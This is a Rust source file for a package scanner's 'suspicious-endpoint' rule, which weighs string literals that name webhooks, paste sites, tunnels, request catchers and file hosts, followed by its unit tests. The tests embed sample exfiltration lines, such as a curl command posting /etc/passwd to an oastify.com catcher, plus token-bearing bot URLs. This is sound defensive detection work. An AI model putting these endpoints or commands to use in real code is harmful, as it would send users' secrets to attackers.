//! WH160 suspicious-endpoint: webhooks, paste sites, tunnels, request catchers, raw IPs, shorteners.

use std::net::Ipv4Addr;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::Regex;
use ruff_text_size::TextRange;

use crate::finding::{Category, ExecContext, Rule};
use crate::walker::Checker;

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH160",
    name: "suspicious-endpoint",
    description: "Mentions an exfiltration or staging endpoint: Discord/Telegram/Slack webhooks, paste sites, tunnels, request catchers, raw public IPs, URL shorteners",
    rationale: "Attackers receive stolen data where no server of their own is needed, and stage \
                payloads where uploads are anonymous. Legitimate libraries almost never hard-code \
                such endpoints outside documentation.",
    category: Category::Anomaly,
};

/// (pattern, label, weight at install/import time)
const ENDPOINTS: &[(&str, &str, f64)] = &[
    ("discord.com/api/webhooks", "Discord webhook", 0.85),
    ("discordapp.com/api/webhooks", "Discord webhook", 0.85),
    ("canary.discord.com/api/webhooks", "Discord webhook", 0.85),
    ("api.telegram.org/bot", "Telegram bot API", 0.65),
    ("hooks.slack.com/services", "Slack webhook", 0.5),
    ("pastebin.com/raw", "paste site", 0.6),
    ("paste.ee/r", "paste site", 0.6),
    ("hastebin", "paste site", 0.5),
    ("rentry.co", "paste site", 0.5),
    ("ghostbin", "paste site", 0.5),
    ("ngrok.io", "ngrok tunnel", 0.65),
    ("ngrok-free.app", "ngrok tunnel", 0.65),
    ("ngrok.app", "ngrok tunnel", 0.6),
    ("trycloudflare.com", "Cloudflare quick tunnel", 0.65),
    ("serveo.net", "tunnel", 0.6),
    ("localhost.run", "tunnel", 0.55),
    ("loca.lt", "tunnel", 0.55),
    ("burpcollaborator.net", "request catcher", 0.7),
    ("oastify.com", "request catcher", 0.7),
    ("interact.sh", "request catcher", 0.7),
    ("oast.fun", "request catcher", 0.7),
    ("oast.pro", "request catcher", 0.7),
    ("oast.live", "request catcher", 0.7),
    ("oast.site", "request catcher", 0.7),
    ("oast.online", "request catcher", 0.7),
    ("oast.me", "request catcher", 0.7),
    ("pipedream.net", "request catcher", 0.65),
    // With its dot: SAML's `authnRequestBinding` is no host.
    ("requestbin.", "request catcher", 0.6),
    // Automation services' inbound webhooks: anyone can receive posted data there without a
    // server of their own, which is what a stealer needs and a library rarely does.
    (
        "connect.pabbly.com/workflow/sendwebhookdata",
        "automation webhook",
        0.5,
    ),
    ("hooks.zapier.com/hooks/catch", "automation webhook", 0.5),
    ("maker.ifttt.com/trigger", "automation webhook", 0.45),
    ("webhook.site", "request catcher", 0.7),
    ("beeceptor.com", "request catcher", 0.6),
    ("requestcatcher.com", "request catcher", 0.65),
    ("canarytokens", "canary token", 0.6),
    ("dnslog.cn", "DNS logger", 0.7),
    ("ceye.io", "DNS logger", 0.7),
    ("dnslog.link", "DNS logger", 0.7),
    ("transfer.sh", "anonymous file host", 0.45),
    ("anonfiles.com", "anonymous file host", 0.45),
    ("gofile.io", "anonymous file host", 0.35),
    ("file.io/", "anonymous file host", 0.35),
    ("0x0.st", "anonymous file host", 0.45),
    ("catbox.moe", "anonymous file host", 0.45),
    ("temp.sh/", "anonymous file host", 0.45),
    ("bashupload.com", "anonymous file host", 0.45),
    ("pixeldrain.com/api", "anonymous file host", 0.4),
    ("tmpfiles.org", "anonymous file host", 0.4),
    ("filebin.net", "anonymous file host", 0.4),
    ("uguu.se", "anonymous file host", 0.45),
    ("oshi.at", "anonymous file host", 0.45),
    ("ptsv2.com", "request catcher", 0.6),
    ("ptsv3.com", "request catcher", 0.6),
    ("hookbin.com", "request catcher", 0.6),
    ("postb.in", "request catcher", 0.6),
    ("requestinspector.com", "request catcher", 0.6),
    // A bot posting into a channel with its own token: the webhook's twin, where a token
    // rather than a URL carries the permission.
    ("discord.com/api/v9/channels/", "Discord bot API", 0.5),
    ("discord.com/api/v10/channels/", "Discord bot API", 0.5),
    ("discordapp.com/api/v9/channels/", "Discord bot API", 0.5),
    // A script endpoint anyone can deploy to receive posted data without a server.
    (
        "script.google.com/macros/s/",
        "Google Apps Script endpoint",
        0.4,
    ),
    (
        "cdn.discordapp.com/attachments",
        "Discord file attachment",
        0.6,
    ),
    (
        "media.discordapp.net/attachments",
        "Discord file attachment",
        0.6,
    ),
    ("dl.dropboxusercontent.com", "Dropbox direct download", 0.35),
    ("dl.dropbox.com/s/", "Dropbox direct download", 0.35),
    ("bit.ly/", "URL shortener", 0.3),
    ("tinyurl.com/", "URL shortener", 0.3),
    ("is.gd/", "URL shortener", 0.3),
    ("cutt.ly/", "URL shortener", 0.3),
    ("rb.gy/", "URL shortener", 0.3),
    // Tracking links that record the visitor's address: contacting one reports the machine.
    ("iplogger.org", "IP logger", 0.6),
    ("iplogger.com", "IP logger", 0.6),
    ("iplogger.ru", "IP logger", 0.6),
    ("grabify.link", "IP logger", 0.6),
    ("2no.co/", "IP logger", 0.6),
    ("api.ipify.org", "public-IP lookup", 0.3),
    ("ipinfo.io", "public-IP lookup", 0.3),
    ("ifconfig.me", "public-IP lookup", 0.3),
    ("icanhazip.com", "public-IP lookup", 0.3),
    // Free app hosting: where throwaway collection servers live. Weak alone (demo apps live
    // there too); it is what such a host is sent that matters.
    (".herokuapp.com", "free app host", 0.3),
    (".pythonanywhere.com", "free app host", 0.3),
    (".onrender.com", "free app host", 0.3),
    (".glitch.me", "free app host", 0.3),
    (".repl.co", "free app host", 0.3),
    (".replit.app", "free app host", 0.3),
    (".000webhostapp.com", "free app host", 0.35),
    (".workers.dev", "free app host", 0.3),
    (".deno.dev", "free app host", 0.3),
    (".fly.dev", "free app host", 0.3),
];

/// One automaton for the needles of [`ENDPOINTS`] (pattern `i` is `ENDPOINTS[i]`), then hints
/// that every other match of [`classify_strength`] contains: `://` (in every URL pattern) and
/// the literal core of [`EMBEDDED_CREDENTIAL`]'s Discord branch without the letters `k` and
/// `s`, whose Unicode case variants (KELVIN SIGN, LONG S) the `(?i)` regex also accepts, and
/// `:AA`, which every bare Telegram bot token (`TELEGRAM_TOKEN`) contains. ASCII case is
/// ignored, as `to_ascii_lowercase` does. A literal without any of them names no endpoint, so
/// most literals are rejected by one scan.
static NEEDLES: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(ENDPOINTS.iter().map(|(needle, _, _)| *needle).chain([
            "://",
            ".com/api/webhoo",
            ":AA",
        ]))
        .ok()
});

/// False when `text` can name no endpoint (see [`NEEDLES`]). This runs for every string
/// literal: every needle holds a `.`, `:` or `/` except a few ending in `bin` or naming
/// canary tokens, so one vectorised byte search rejects most text before the automaton runs.
fn may_name_endpoint(text: &str) -> bool {
    let bytes = text.as_bytes();
    let punctuated = memchr::memchr3(b'.', b':', b'/', bytes).is_some();
    if !punctuated && !has_bare_needle(bytes) {
        return false;
    }
    NEEDLES
        .as_ref()
        .is_none_or(|needles| needles.is_match(text))
}

/// `hastebin`, `ghostbin`, `requestbin`, `canarytokens`: the needles without punctuation
/// (a test keeps this in step with [`ENDPOINTS`]).
fn has_bare_needle(bytes: &[u8]) -> bool {
    // Both words hold an `n`: text without one (most identifiers and words) is out at once.
    memchr::memchr2(b'n', b'N', bytes).is_some()
        && (bytes.windows(3).any(|w| w.eq_ignore_ascii_case(b"bin"))
            || bytes.windows(6).any(|w| w.eq_ignore_ascii_case(b"canary")))
}

/// The first entry of [`ENDPOINTS`], in table order, whose needle `text` contains (ASCII case
/// ignored).
fn endpoint_in(text: &str) -> Option<&'static (&'static str, &'static str, f64)> {
    match NEEDLES.as_ref() {
        Some(needles) => needles
            .find_overlapping_iter(text)
            .filter(|m| {
                ENDPOINTS
                    .get(m.pattern().as_usize())
                    .is_some_and(|(needle, _, _)| {
                        names_whole_host(text.as_bytes(), m.start(), m.end(), needle)
                    })
            })
            .map(|m| m.pattern().as_usize())
            .min()
            .and_then(|index| ENDPOINTS.get(index)),
        None => {
            let lower = text.to_ascii_lowercase();
            ENDPOINTS.iter().find(|(needle, _, _)| {
                lower.match_indices(needle).any(|(start, _)| {
                    names_whole_host(lower.as_bytes(), start, start + needle.len(), needle)
                })
            })
        }
    }
}

/// True when the needle found at `start..end` is a whole host name, not the middle of a word:
/// `x.oast.pro` and `https://oast.pro/…` are the catcher, the protobuf name `Toast.proto` is
/// not. A needle ending in a path (`api.telegram.org/bot`) may run on into what follows it.
fn names_whole_host(text: &[u8], start: usize, end: usize, needle: &str) -> bool {
    let glued = |byte: Option<&u8>| byte.is_some_and(|b| b.is_ascii_alphanumeric());
    let word_edge = |byte: Option<u8>| byte.is_some_and(|b| b.is_ascii_alphanumeric());
    // `.herokuapp.com` and `requestbin.` carry their own edge.
    let before = start.checked_sub(1).and_then(|at| text.get(at));
    if word_edge(needle.bytes().next()) && glued(before) {
        return false;
    }
    needle.contains('/') || !word_edge(needle.bytes().last()) || !glued(text.get(end))
}

static IP_URL: LazyLock<Regex> = crate::static_regex!(
    r"(?i)\b(?:https?|ftp|tcp)://(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})(?::\d+)?"
);

fn is_public(ip: Ipv4Addr) -> bool {
    let [a, b, c, _] = ip.octets();
    !(ip.is_private()
        || ip.is_loopback()
        || ip.is_link_local()
        || ip.is_unspecified()
        || ip.is_broadcast()
        || ip.is_multicast()
        || a == 0
        || (a == 192 && b == 0 && c == 2)
        || (a == 198 && b == 51 && c == 100)
        || (a == 203 && b == 0 && c == 113)
        || (a == 100 && (64..128).contains(&b)))
}

/// A webhook or bot URL that embeds its secret: only the owner of the receiving end writes that.
/// Classes are ASCII (`[0-9A-Za-z_-]`, not `\w`): tokens are, and Unicode classes cost ~15 ms
/// of start-up to compile, more than scanning a small package.
static EMBEDDED_CREDENTIAL: LazyLock<Regex> = crate::static_regex!(
    r"(?i)(discord(app)?\.com/api/webhooks/[0-9]{10,}/[0-9A-Za-z_-]{20,}|api\.telegram\.org/bot[0-9]{5,}:[0-9A-Za-z_-]{20,})"
);

/// A Telegram bot token on its own (`5386522594:AAE3…`), as handed to bot libraries: whoever
/// holds it receives what the bot is told to send.
static TELEGRAM_TOKEN: LazyLock<Regex> =
    crate::static_regex!(r"^\s*[0-9]{8,10}:AA[0-9A-Za-z_-]{33}\s*$");

/// A URL whose path ends in a Windows executable or script.
static EXECUTABLE_URL: LazyLock<Regex> = crate::static_regex!(
    r"(?i)\bhttps?://[^\s'\x22]+?\.(exe|scr|msi|bat|cmd|ps1|vbs|hta|jar)(\?|#|$|\s|['\x22])"
);

/// A URL whose path ends in `.cmd` or `.jar`. The first is a batch script, but also the page
/// suffix of Java web frameworks (`data.krx.co.kr/…/MDCCOMS001D1.cmd`, as `.do` and `.action`
/// are); the second is how Java tools and models are published (Maven, CoreNLP on Hugging
/// Face). Either counts as a payload only where payloads are parked: a raw address or an
/// anonymous file host.
static AMBIGUOUS_URL: LazyLock<Regex> =
    crate::static_regex!(r"(?i)\bhttps?://[^\s'\x22]+?\.(cmd|jar)(\?|#|$|\s|['\x22])");

static PYTHON_SCRIPT_URL: LazyLock<Regex> =
    crate::static_regex!(r"(?i)\bhttps?://[^\s'\x22]+?\.(py|pyw|pyc|pyz)(\?|#|$|\s|['\x22])");

/// Labels of hosts where anyone can drop a file anonymously.
fn is_file_host(label: &str) -> bool {
    [
        "file attachment",
        "file host",
        "paste site",
        "direct download",
    ]
    .iter()
    .any(|kind| label.contains(kind))
}

/// The endpoint a string names, with its label, weight, and whether it is specific enough to
/// weigh the same wherever it appears (a hard-coded webhook secret, an executable on a raw IP).
pub fn classify_strength(text: &str) -> Option<(String, f64, bool)> {
    if !may_name_endpoint(text) {
        return None;
    }
    if let Some(m) = EMBEDDED_CREDENTIAL.find(text) {
        let label = if m.as_str().to_ascii_lowercase().contains("telegram") {
            "Telegram bot URL with a hard-coded token"
        } else {
            "Discord webhook with a hard-coded id and token"
        };
        return Some((label.to_owned(), 0.85, true));
    }
    // A Python script on a chat or anonymous file host is a second stage, not a download page.
    if PYTHON_SCRIPT_URL.is_match(text)
        && let Some((label, _)) = classify(text).filter(|(label, _)| is_file_host(label))
    {
        return Some((format!("Python script on a {label}"), 0.6, true));
    }
    if TELEGRAM_TOKEN.is_match(text) {
        return Some(("hard-coded Telegram bot token".to_owned(), 0.6, true));
    }
    let ip = IP_URL
        .captures(text)
        .and_then(|c| c.get(1)?.as_str().parse::<Ipv4Addr>().ok())
        .filter(|ip| is_public(*ip));
    let executable = EXECUTABLE_URL.find_iter(text).any(|m| {
        !AMBIGUOUS_URL.is_match(m.as_str())
            || ip.is_some()
            || classify(text).is_some_and(|(label, _)| is_file_host(&label))
    });
    match (executable, ip) {
        (true, Some(ip)) => {
            return Some((
                format!("Windows executable served from the raw IP {ip}"),
                0.75,
                true,
            ));
        }
        (true, None) => {
            // An executable on an anonymous or chat file host is a staged payload, not a vendor download.
            if let Some((label, _)) = classify(text) {
                return Some((format!("Windows executable on a {label}"), 0.75, true));
            }
            return Some((
                "URL of a Windows executable or script".to_owned(),
                0.4,
                false,
            ));
        }
        _ => {}
    }
    // Request catchers exist to collect callbacks from machines under test: shipped code that
    // names one reports to its author whenever it runs.
    classify(text).map(|(label, weight)| {
        let strong = label == "request catcher";
        if secret_left_open(text) {
            return (
                format!("{label} with its secret left to the caller"),
                weight * 0.3,
                false,
            );
        }
        (label, weight, strong)
    })
}

/// Where a bot or webhook URL needs its secret (`bot<token>`, `webhooks/<id>/<token>`).
static SECRET_SLOT: LazyLock<Regex> = crate::static_regex!(
    r"(?i)(?:api\.telegram\.org/bot|discord(?:app)?\.com/api/webhooks/?|hooks\.slack\.com/services/?|maker\.ifttt\.com/trigger/?|hooks\.zapier\.com/hooks/catch/?)(.?)"
);

/// True for a bot or webhook URL whose secret is a placeholder or missing (`bot{0}/{1}`,
/// `bot%s`, `api/webhooks/{id}/{token}`, the bare base): the template of a client library,
/// which sends to whatever bot its user configures. A stealer's URL carries its owner's secret,
/// and a secret kept in another literal is caught on its own ([`TELEGRAM_TOKEN`]).
/// A secret computed at run time (`bot…/sendDocument` once folded, the `…` being the token
/// read from the environment or a configuration) is the user's bot too.
pub(crate) fn secret_left_open(text: &str) -> bool {
    SECRET_SLOT.captures(text).is_some_and(|c| {
        let next = c.get(1).map_or("", |m| m.as_str());
        next.is_empty()
            || matches!(next, "{" | "%" | "$" | "<" | "'" | "\"" | "`" | " ")
            || next == crate::fold::UNKNOWN
            || c.get(1)
                .and_then(|m| text.get(m.start()..))
                .is_some_and(is_placeholder_secret)
    })
}

/// `T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX`, `000000:xxxx`: the dummy secret of a
/// documentation example or a test, mostly zeros and X's.
fn is_placeholder_secret(secret: &str) -> bool {
    let secret = secret
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '?' | '#'))
        .next()
        .unwrap_or("");
    let characters: Vec<char> = secret
        .chars()
        .filter(|c| !matches!(c, '/' | ':' | '-' | '_'))
        .collect();
    let dummy = characters
        .iter()
        .filter(|c| matches!(c, '0' | 'X' | 'x' | '*'))
        .count();
    characters.len() >= 8 && dummy * 5 >= characters.len() * 4
}

/// Byte offsets in `text` where an endpoint [`classify`] recognises may start: the matches of
/// [`NEEDLES`], so text between them names none. Lets a scan over a whole file classify only
/// the lines that can name one.
pub fn candidate_offsets(text: &str) -> Box<dyn Iterator<Item = usize> + '_> {
    match NEEDLES.as_ref() {
        Some(needles) => Box::new(needles.find_iter(text).map(|m| m.start())),
        // Without the automaton every line is a candidate.
        None => Box::new(
            std::iter::once(0).chain(memchr::memchr_iter(b'\n', text.as_bytes()).map(|nl| nl + 1)),
        ),
    }
}

/// The endpoint a string names, with its label and weight.
pub fn classify(text: &str) -> Option<(String, f64)> {
    if !may_name_endpoint(text) {
        return None;
    }
    if let Some((_, label, weight)) = endpoint_in(text) {
        return Some(((*label).to_owned(), *weight));
    }
    // The pattern needs `://`; the search alone is cheaper than the regex's.
    if !text.contains("://") {
        return None;
    }
    let captures = IP_URL.captures(text)?;
    let ip: Ipv4Addr = captures.get(1)?.as_str().parse().ok()?;
    is_public(ip).then(|| (format!("URL with a raw public IP address {ip}"), 0.3))
}

/// Endpoints a collection literal must list, and how many kinds of them, to be a table of
/// indicators: a stealer names its webhook or paste, not six services of three kinds.
const TABLE_ENDPOINTS: usize = 6;
const TABLE_KINDS: usize = 3;

/// True for a list, set or tuple of string literals naming [`TABLE_ENDPOINTS`] or more
/// endpoints of [`TABLE_KINDS`] or more kinds (`["pastebin.com", "transfer.sh", "gofile.io",
/// "webhook.site", "ngrok.io", …]` in a URL classifier). Hard-coded secrets still count in
/// full inside one.
pub fn is_indicator_table(items: &[ruff_python_ast::Expr]) -> bool {
    if items.len() < TABLE_ENDPOINTS {
        return false;
    }
    let mut kinds: Vec<String> = Vec::new();
    let mut endpoints = 0;
    let mut bare_hosts = 0;
    let sampled = items.len().min(512);
    for item in items.iter().take(512) {
        let ruff_python_ast::Expr::StringLiteral(literal) = item else {
            continue;
        };
        let text = literal.value.to_str();
        if text.len() > 300 {
            continue;
        }
        if is_bare_host(text) {
            bare_hosts += 1;
        }
        if let Some((label, _)) = classify(text) {
            endpoints += 1;
            if !kinds.contains(&label) {
                kinds.push(label);
            }
        }
    }
    // A blocklist of hundreds of domains (disposable mail providers, trackers) names each
    // host to refuse it; one of them being a request catcher makes it no address in use.
    let host_list = sampled >= HOST_LIST_ENTRIES && bare_hosts * 10 >= sampled * 9;
    host_list || endpoints >= TABLE_ENDPOINTS && kinds.len() >= TABLE_KINDS
}

/// Entries from which a collection of bare domain names is a host list (see
/// [`is_indicator_table`]).
const HOST_LIST_ENTRIES: usize = 200;

/// `mailinator.com`, `0-mail.dynv6.net`: a domain name alone, no scheme, path or blank.
fn is_bare_host(text: &str) -> bool {
    text.len() <= 253
        && text.contains('.')
        && !text.starts_with('.')
        && !text.ends_with('.')
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-'))
}

/// String literals.
pub fn check_string(checker: &mut Checker, value: &str, range: TextRange) {
    if value.len() > 4096 {
        return;
    }
    let Some((label, weight, strong)) = classify_strength(value) else {
        return;
    };
    let context = checker.context();
    let severity = match context {
        // A sentence that mentions a service (`e.g. 'https://hooks.slack.com/services/T000…'`
        // in a field's description) documents it wherever it sits.
        _ if !strong && is_prose(value) => weight * 0.25,
        // `example = 'recursive:https://pastebin.com/raw/…'`: an input shown to the user.
        _ if !strong && checker.in_documentation_value() => weight * 0.25,
        // A scanner's table of paste sites, file hosts and tunnels lists them to match; a
        // secret written into one is still somebody's live webhook or bot.
        _ if checker.in_indicator_table() && !label.contains("hard-coded") => weight * 0.1,
        ExecContext::Install | ExecContext::Import => weight,
        ExecContext::Runtime if strong => weight * 0.9,
        // A client library may name a service it talks to when asked; loading code should not.
        ExecContext::Runtime => weight * 0.5,
        ExecContext::TestOrDocs => weight * 0.25,
    };
    checker.report(
        &RULE,
        range,
        format!("{label}: `{}`", crate::text::shorten(value, 100)),
        severity,
        vec!["endpoint"],
    );
}

/// True for text that reads as sentences: six or more plain words (letters only, with
/// trailing punctuation). Commands and URLs that a payload uses have few: `curl -d @f https://…`.
fn is_prose(text: &str) -> bool {
    let words = text
        .split_whitespace()
        .filter(|word| {
            let word = word.trim_end_matches([',', '.', ';', ':', '!', '?', ')']);
            let word = word.trim_start_matches('(');
            word.len() >= 2 && word.bytes().all(|b| b.is_ascii_alphabetic())
        })
        .count();
    // `URL of this webhook, e.g. https://…`: a field's help text gives the shape of a value.
    let gives_example = ["e.g.", "for example", "such as", "i.e."]
        .iter()
        .any(|marker| text.to_ascii_lowercase().contains(marker));
    words >= 6 || gives_example && words >= 3
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::max_severity;

    #[test]
    fn an_example_input_names_a_service_without_using_it() {
        let example =
            "class Recursive:\n    example = 'recursive:https://pastebin.com/raw/FLwrCYsT'\n";
        assert!(max_severity("p/pkg/extractor.py", example, "WH160") < 0.2);
        let staged = "STAGE = 'https://pastebin.com/raw/FLwrCYsT'\n";
        assert!(max_severity("p/pkg/__init__.py", staged, "WH160") >= 0.4);
    }

    #[test]
    fn a_cmd_page_of_a_web_framework_is_no_script_download() {
        let page =
            "LOGIN_URL = 'https://data.krx.co.kr/contents/MDC/COMS/client/MDCCOMS001D1.cmd'\n";
        assert!(max_severity("p/pkg/__init__.py", page, "WH160") < 0.1);
        assert!(classify_strength("http://45.61.139.2/run.cmd").is_some_and(|(_, w, _)| w >= 0.7));
        assert!(
            classify_strength("https://cdn.discordapp.com/attachments/1/2/run.cmd")
                .is_some_and(|(_, w, _)| w >= 0.7)
        );
        assert!(
            classify_strength("https://example.org/dl/setup.bat").is_some_and(|(_, w, _)| w >= 0.4)
        );
        let model = "URL = 'https://huggingface.co/stanfordnlp/corenlp-en/resolve/main/stanford-corenlp-models-en.jar'\n";
        assert!(max_severity("p/pkg/__init__.py", model, "WH160") < 0.1);
    }

    #[test]
    fn a_blocklist_of_domains_is_no_address_in_use() {
        let mut list = String::from("BLOCKLIST = {\n");
        for n in 0..300 {
            list.push_str(&format!("    'mail{n}.example-disposable.net',\n"));
        }
        list.push_str("    'webhook.site',\n}\n");
        assert!(max_severity("p/pkg/__init__.py", &list, "WH160") < 0.2);
        let short = "HOSTS = ['a.example.net', 'b.example.net', 'webhook.site']\n";
        assert!(max_severity("p/pkg/__init__.py", short, "WH160") >= 0.5);
    }

    #[test]
    fn a_table_of_endpoint_kinds_is_indicators_not_addresses() {
        let table = "SUSPICIOUS = [\n    'pastebin.com/raw', 'transfer.sh', 'gofile.io', 'webhook.site',\n    'ngrok.io', 'trycloudflare.com', 'requestbin.', 'hastebin',\n]\n";
        assert!(max_severity("p/pkg/classifier.py", table, "WH160") < 0.1);
        // A stealer's few endpoints, or several of one kind, are used, not listed.
        let hooks =
            "HOOKS = ['https://discord.com/api/webhooks/1/a', 'https://pastebin.com/raw/x']\n";
        assert!(max_severity("p/pkg/__init__.py", hooks, "WH160") >= 0.6);
        let token = "T = ['pastebin.com/raw', 'transfer.sh', 'gofile.io', 'webhook.site', 'ngrok.io', 'https://api.telegram.org/bot5711014217:AAGm6ZmhZmgkxkHMAO2lpynlmkJYXXgrtb4/sendMessage']\n";
        assert!(max_severity("p/pkg/__init__.py", token, "WH160") >= 0.6);
    }

    #[test]
    fn an_endpoint_is_a_whole_host_not_part_of_a_word() {
        let label = |text: &str| super::classify(text).map(|(label, _)| label);
        assert_eq!(
            label("https://x1.oast.pro/a").as_deref(),
            Some("request catcher")
        );
        assert_eq!(label("c2.oast.pro").as_deref(), Some("request catcher"));
        // A protobuf descriptor naming its `Toast.proto`, a word running on past a host.
        assert_eq!(
            label("\n\x1bstreamlit/proto/Toast.proto\"G\n\x05Toast"),
            None
        );
        assert_eq!(label("see roast.meal and boast.fund"), None);
        // A bot token runs on after the bot API's path.
        assert_eq!(
            label("https://api.telegram.org/bot123456:AAH/sendMessage").as_deref(),
            Some("Telegram bot API")
        );
    }

    #[test]
    fn file_drops_catchers_bot_apis_and_script_endpoints() {
        let label = |url: &str| super::classify(url).map(|(label, _)| label);
        assert_eq!(
            label("https://catbox.moe/user/api.php").as_deref(),
            Some("anonymous file host")
        );
        assert_eq!(
            label("https://discord.com/api/v10/channels/1100/messages").as_deref(),
            Some("Discord bot API")
        );
        assert_eq!(
            label("https://script.google.com/macros/s/AKfy/exec").as_deref(),
            Some("Google Apps Script endpoint")
        );
        assert_eq!(
            label("https://x.example-acct.workers.dev/l.py").as_deref(),
            Some("free app host")
        );
        // Documentation sites and notification services' bases name nobody's collector.
        assert_eq!(label("https://texlab.netlify.app"), None);
        assert_eq!(label("https://ntfy.sh/"), None);
    }

    #[test]
    fn every_needle_passes_the_byte_precheck() {
        for (needle, _, _) in ENDPOINTS {
            assert!(may_name_endpoint(needle), "{needle}");
            assert!(may_name_endpoint(&needle.to_ascii_uppercase()), "{needle}");
        }
        assert!(!may_name_endpoint("just some words"));
    }

    #[test]
    fn automation_webhooks_are_endpoints_and_their_sites_are_not() {
        assert_eq!(
            classify("https://hooks.zapier.com/hooks/catch/123/abc/").map(|(l, _)| l),
            Some("automation webhook".to_owned())
        );
        assert!(classify("https://connect.pabbly.com/workflow/sendwebhookdata/Ij").is_some());
        assert!(classify("https://zapier.com/apps/python/integrations").is_none());
    }

    #[test]
    fn a_referer_header_names_a_page_it_does_not_fetch() {
        let header = "HEADERS = {'User-Agent': 'x', 'Referer': 'https://data.example.org/outerLoader/index.cmd'}\n";
        assert!(max_severity("p/pkg/data.py", header, "WH160") < 0.2);
        let fetched = "URL = 'https://data.example.org/outerLoader/index.exe'\n";
        assert!(max_severity("p/pkg/data.py", fetched, "WH160") >= 0.4);
    }

    #[test]
    fn help_text_giving_an_example_url_is_documentation() {
        let help = "HELP = 'URL of this webhook, e.g. https://discordapp.com/api/webhooks/123456/abcdef'\n";
        assert!(max_severity("p/pkg/migrations/0001_initial.py", help, "WH160") < 0.3);
        let live = "HOOK = 'https://discord.com/api/webhooks/123456/abcdef'\n";
        assert!(max_severity("p/pkg/__init__.py", live, "WH160") >= 0.8);
    }

    #[test]
    fn dummy_and_computed_secrets_leave_the_bot_to_its_user() {
        assert!(secret_left_open(
            "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"
        ));
        assert!(secret_left_open(
            "https://api.telegram.org/bot…/sendMessage"
        ));
        assert!(!secret_left_open(
            "https://hooks.slack.com/services/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"
        ));
        assert!(!secret_left_open(
            "https://api.telegram.org/bot5386522594:AAE3kdj38dk2jd8Kd02kd9dKd02kd9dKd02/sendMessage"
        ));
    }

    #[test]
    fn ip_loggers_are_endpoints() {
        assert_eq!(
            classify("https://iplogger.com/2FGvi4").map(|(l, _)| l),
            Some("IP logger".to_owned())
        );
    }

    #[test]
    fn bare_telegram_tokens_are_endpoints() {
        let code = "import telebot\nbot = telebot.TeleBot('5386522594:AAE300GqEw3NzA2-exL8htYrq0IpkxAHLOE')\n";
        assert!(max_severity("p/setup.py", code, "WH160") >= 0.6);
        let code = "TOKEN = '12:34'\n";
        assert_eq!(max_severity("p/pkg/m.py", code, "WH160"), 0.0);
    }

    #[test]
    fn python_scripts_on_file_hosts_are_second_stages() {
        let code = "import requests\ndef go():\n    requests.get('https://cdn.discordapp.com/attachments/1/2/main.py')\n";
        assert!(max_severity("p/pkg/m.py", code, "WH160") >= 0.5);
        let code = "import requests\ndef go():\n    requests.get('https://raw.githubusercontent.com/o/r/main/setup.py')\n";
        assert!(max_severity("p/pkg/m.py", code, "WH160") < 0.3);
    }

    #[test]
    fn recognises_exfiltration_endpoints() {
        assert!(classify("https://discord.com/api/webhooks/1/abc").is_some());
        assert!(classify("http://45.13.22.9:8080/payload").is_some());
        assert!(
            max_severity(
                "p/pkg/__init__.py",
                "W = 'https://discord.com/api/webhooks/1/x'\n",
                "WH160"
            ) >= 0.8
        );
        let code = "def send():\n    u = 'https://api.telegram.org/bot5711014217:AAGm6ZmhZmgkxkHMAO2lpynlmkJYXXgrtb4/sendDocument'\n";
        assert!(max_severity("p/pkg/util.py", code, "WH160") >= 0.75);
        let code = "def get():\n    u = 'http://45.158.77.82/swfdump.exe'\n";
        assert!(max_severity("p/pkg/util.py", code, "WH160") >= 0.6);
        let code = "def send(token):\n    u = f'https://api.telegram.org/bot{token}/sendMessage'\n";
        assert!(max_severity("p/pkg/util.py", code, "WH160") < 0.4);
    }

    #[test]
    fn endpoints_mentioned_in_sentences_are_documentation() {
        let described = "F = Field(None, description=\"Mapping of alert type to webhook url. e.g. `alert_to_webhook_url: {'budget_alerts': 'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'}`\")\n";
        let severity = max_severity("p/pkg/types.py", described, "WH160");
        assert!(severity > 0.0 && severity < 0.2, "{severity}");
        // A command line is no sentence, and a hard-coded webhook secret weighs anywhere.
        let command =
            "import os\nos.system('curl -s -X POST -d @/etc/passwd https://abc.oastify.com/x')\n";
        assert!(max_severity("p/setup.py", command, "WH160") >= 0.6);
        let told = "MSG = 'please do not share this with anyone at all, it goes to https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz'\n";
        assert!(max_severity("p/pkg/__init__.py", told, "WH160") >= 0.8);
    }

    #[test]
    fn bot_and_webhook_templates_without_their_secret_are_weak_even_while_loading() {
        for template in [
            "API_URL = 'https://api.telegram.org/bot{0}/{1}'\n",
            "API_URL = 'https://api.telegram.org/bot'\n",
            "BASE = 'https://api.telegram.org/bot%s/%s'\n",
            "HOOK = 'https://discord.com/api/webhooks/{id}/{token}'\n",
            "SLACK = 'https://hooks.slack.com/services'\n",
            "IFTTT = 'https://maker.ifttt.com/trigger/{event}/with/key/{webhook_id}'\n",
        ] {
            let severity = max_severity("p/pkg/api.py", template, "WH160");
            assert!(severity > 0.0 && severity < 0.3, "{template}: {severity}");
        }
        // The owner's secret in the URL, or on its own, still weighs in full.
        let stealer = "U = 'https://api.telegram.org/bot5711014217:AAGm6ZmhZmgkxkHMAO2lpynlmkJYXXgrtb4/sendDocument'\n";
        assert!(max_severity("p/pkg/__init__.py", stealer, "WH160") >= 0.8);
        let split = "T = '5711014217:AAGm6ZmhZmgkxkHMAO2lpynlmkJYXXgrtb4'\nU = 'https://api.telegram.org/bot'\n";
        assert!(max_severity("p/pkg/__init__.py", split, "WH160") >= 0.6);
        let slack =
            "U = 'https://hooks.slack.com/services/T0AB12CD3/B0EF45GH6/abcdefghijklmnopqrstuvwx'\n";
        assert!(max_severity("p/pkg/__init__.py", slack, "WH160") >= 0.4);
        // A SAML binding name is no request catcher.
        assert!(classify("authnRequestBinding").is_none());
        assert!(classify("https://enx1.x.requestbin.net/r").is_some());
